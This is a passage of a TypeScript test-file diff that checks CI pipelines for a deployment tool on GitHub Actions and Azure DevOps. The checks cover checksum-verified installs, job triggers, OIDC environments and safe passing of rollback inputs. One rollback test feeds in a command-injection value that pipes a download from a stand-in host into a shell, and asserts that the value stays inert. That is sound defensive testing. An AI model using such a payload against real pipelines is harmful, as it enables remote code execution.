+      stderr = String((error as { stderr: Buffer }).stderr);
+    }
+    const urls = existsSync(join(dir, "urls")) ? readFileSync(join(dir, "urls"), "utf8").trim().split("\n") : [];
+    return { code, stderr, urls, installed: existsSync(join(home, ".local", "bin", "dagger")) };
+  }
+
+  it.each([
+    ["GitHub", () => githubJobs()[0] as Job],
+    ["Azure DevOps", () => adoJobs(ADO)[0] as Job],
+  ])("%s: downloads the pinned release and its checksums.txt, and installs only a tarball that matches", (_name, pick) => {
+    const job = pick();
+    const version = ENGINE_VERSION.slice(1);
+    const ok = install(job, "none");
+    expect(ok).toMatchObject({ code: 0, installed: true });
+    expect(ok.urls).toEqual([
+      `https://github.com/dagger/dagger/releases/download/v${version}/dagger_v${version}_linux_amd64.tar.gz`,
+      `https://github.com/dagger/dagger/releases/download/v${version}/checksums.txt`,
+    ]);
+    expect(install(job, "tarball")).toMatchObject({ code: 1, installed: false, stderr: expect.stringContaining("did NOT match") });
+    expect(install(job, "unlisted")).toMatchObject({ code: 1, installed: false, stderr: expect.stringContaining("no file was verified") });
+  });
+
+  it("every copy of the install step is the same script", () => {
+    const scripts = new Set(allJobs().map((j) => (j.steps.find((s) => s.kind === "install")?.script ?? "").replace(/RUNNER_TEMP|AGENT_TEMPDIRECTORY/, "TEMP").replace(/echo .*\n$/, "")));
+    expect(scripts.size).toBe(1);
+  });
+});
+
+describe("ci/github/slipway.yml", () => {
+  const job = (id: string) => githubJobs().find((j) => j.id === id) as Job;
+  const mainCall = (id: string, context: Record<string, unknown>) => {
+    const j = job(id);
+    return callOf(j, j.steps.find((s) => s.kind === "call") as Step, context);
+  };
+
+  it("ci runs on pull requests against the target branch; release on pushes to main; rollback by hand", () => {
+    const wf = load(GITHUB) as { on: Record<string, unknown>; jobs: Record<string, { if?: string }> };
+    expect(wf.on.push).toEqual({ branches: ["main"] });
+    const runs = (id: string, event: "pull_request" | "push" | "workflow_dispatch") => job(id).raw.if === undefined || truthy(evaluate(String(job(id).raw.if), contextFor(event)));
+    expect(["ci", "release", "promote-staging", "promote-prod", "rollback"].filter((id) => runs(id, "pull_request") && !(job(id).raw.needs))).toEqual(["ci"]);
+    expect(["ci", "release", "rollback"].filter((id) => runs(id, "push"))).toEqual(["release"]);
+    expect(["ci", "release", "rollback"].filter((id) => runs(id, "workflow_dispatch"))).toEqual(["rollback"]);
+    expect(flag(mainCall("ci", contextFor("pull_request")).segments[0], "base")).toBe("origin/main");
+  });
+
+  it("release passes --base for the whole push, and none on the first push of the branch (before = 40 zeros)", () => {
+    const several = mainCall("release", contextFor("push", { before: "b".repeat(40) }));
+    expect(several.problems).toEqual([]);
+    expect(flag(several.segments[0], "base")).toBe("b".repeat(40));
+    const first = mainCall("release", contextFor("push", { before: ZEROS }));
+    expect(first.problems).toEqual([]);
+    expect(first.segments[0]?.flags.has("base")).toBe(false);
+  });
+
+  it("release, promote staging and promote prod run in order, each in its GitHub Environment, with OIDC, and fail unless verified", () => {
+    expect([job("promote-staging").raw.needs, job("promote-prod").raw.needs]).toEqual(["release", "promote-staging"]);
+    for (const [id, env] of [["release", "dev"], ["promote-staging", "staging"], ["promote-prod", "prod"]] as const) {
+      const call = mainCall(id, contextFor("push"));
+      expect(job(id).environment).toBe(env);
+      expect(flag(call.segments[0], "environment")).toBe(env);
+      expect(call.segments.at(-1)?.name).toBe("verdict");
+      expect(job(id).raw.permissions).toMatchObject({ "id-token": "write" });
+      expect(flag(call.segments[0], "oidcRequestUrl")).toBe("https://token.actions.githubusercontent.example/req");
+    }
+  });
+
+  it("rollback takes the environment and the optional ledger id from the dispatch inputs, through the environment", () => {
+    const wf = load(GITHUB) as { on: { workflow_dispatch: { inputs: Record<string, { type: string; options?: string[]; required?: boolean }> } } };
+    expect(wf.on.workflow_dispatch.inputs.environment).toMatchObject({ type: "choice", options: ["dev", "staging", "prod"] });
+    expect(wf.on.workflow_dispatch.inputs.to?.required).toBe(false);
+    expect(job("rollback").environment).toBe("${{ inputs.environment }}");
+    const given = mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "prod", to: "7" } })).segments[0];
+    expect([flag(given, "environment"), flag(given, "to"), flag(given, "source")]).toEqual(["prod", "7", "."]);
+    // An empty `to` is passed as --to "": rollback treats an empty string as not given.
+    expect(flag(mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "dev", to: "" } })).segments[0], "to")).toBe("");
+    // A hostile input stays one word: it reaches the script through the environment, never as script text.
+    const hostile = mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "dev", to: '"; curl evil | sh; "' } }));
+    expect(hostile.problems).toEqual([]);
+    expect(flag(hostile.segments[0], "to")).toBe('"; curl evil | sh; "');
+    expect(job("rollback").steps.map((s) => s.script ?? "").join("\n")).not.toContain("inputs.");
+  });
+
+  it("every checkout has the full history and keeps no token in .git/config (the source goes into containers)", () => {
+    for (const j of githubJobs()) {
+      expect({ job: j.id, with: j.steps[0]?.raw.with }).toEqual({ job: j.id, with: { "fetch-depth": 0, "persist-credentials": false } });
+    }
+  });
+});
+
+describe("ci/azure-devops", () => {
+  const stage = (id: string) => adoJobs(ADO).find((j) => j.id === id) as Job;
+
+  it("ci on pull requests against the target branch; release, promote staging and prod on main, in order, as deployments", () => {
+    const pipeline = load(ADO) as { stages: Array<{ stage: string; condition?: string; dependsOn?: unknown; variables?: unknown }> };
+    const byId = Object.fromEntries(pipeline.stages.map((s) => [s.stage, s]));
+    expect(byId.ci?.condition).toBe("eq(variables['Build.Reason'], 'PullRequest')");
+    expect(byId.release_dev?.condition).toContain("eq(variables['Build.SourceBranch'], 'refs/heads/main')");
+    expect([byId.promote_staging?.dependsOn, byId.promote_prod?.dependsOn]).toEqual(["release_dev", "promote_staging"]);
+    const ci = stage("ci");
+    const call = callOf(ci, ci.steps.find((s) => s.kind === "call") as Step, {});
+    expect(ci.steps.find((s) => s.kind === "call")?.env.PR_TARGET).toBe("$(System.PullRequest.targetBranchName)");
+    expect(flag(call.segments[0], "base")).toBe("origin/$(System.PullRequest.targetBranchName)");
+    for (const [id, env] of [["release_dev", "dev"], ["promote_staging", "staging"], ["promote_prod", "prod"]] as const) {
+      const job = stage(id);
+      const step = job.steps.find((s) => s.kind === "call") as Step;
+      const segments = callOf(job, step, {}).segments;
+      expect(job.raw.deployment).toBeDefined();
+      expect(job.environment).toBe(env);
+      expect(flag(segments[0], "environment")).toBe(env);
+      expect(segments.at(-1)?.name).toBe("verdict");
+      expect(byId[id]?.variables).toEqual([{ group: `slipway-${env}` }]);
+      // The environment's workload identity federation service connection; Slipway mints fresh OIDC tokens
+      // through it, so the task's 10-minute idToken is not passed (it would win and expire mid-release).
+      expect(step.raw.task).toBe("AzureCLI@2");
+      expect(step.raw.inputs).toMatchObject({ azureSubscription: `slipway-${env}`, scriptType: "bash", scriptLocation: "inlineScript" });
+      expect(flag(segments[0], "oidcRequestUri")).toBe("https://dev.azure.example/oidc");
+      expect([flag(segments[0], "systemAccessToken"), step.env.SYSTEM_ACCESSTOKEN]).toEqual(["env:SYSTEM_ACCESSTOKEN", "$(System.AccessToken)"]);
+      expect(segments[0]?.flags.has("idToken")).toBe(false);
+    }
+  });
+
+  it("rollback.yml runs only by hand, in the chosen environment, with its ledger id passed through the environment", () => {
+    const pipeline = load(ADO_ROLLBACK) as { trigger: unknown; pr: unknown; parameters: Array<{ name: string; values?: string[]; default?: string }> };
+    expect([pipeline.trigger, pipeline.pr]).toEqual(["none", "none"]);
+    expect(pipeline.parameters.find((p) => p.name === "environment")?.values).toEqual(["dev", "staging", "prod"]);
+    const [job] = adoJobs(ADO_ROLLBACK) as [Job];
+    expect(job.environment).toBe("${{ parameters.environment }}");
+    const step = job.steps.find((s) => s.kind === "call") as Step;
+    expect(step.env).toMatchObject({ ROLLBACK_ENVIRONMENT: "${{ parameters.environment }}", ROLLBACK_TO: "${{ parameters.to }}", GITOPS_TOKEN: "$(GITOPS_TOKEN)" });
+    const segments = callOf(job, step, {}).segments;
+    expect([flag(segments[0], "environment"), flag(segments[0], "to"), flag(segments[0], "source")]).toEqual(["${{ parameters.environment }}", "${{ parameters.to }}", "."]);
+  });
+
+  it("no script uses an Azure Pipelines macro or a secret directly: values arrive through the step's env", () => {
+    for (const job of [...adoJobs(ADO), ...adoJobs(ADO_ROLLBACK)]) {
+      for (const step of job.steps.filter((s) => s.kind === "call" || s.kind === "report")) expect({ step: step.name, script: step.script }).not.toEqual({ step: step.name, script: expect.stringMatching(/\$\(|\$\{\{/) });
+    }
   });
 });
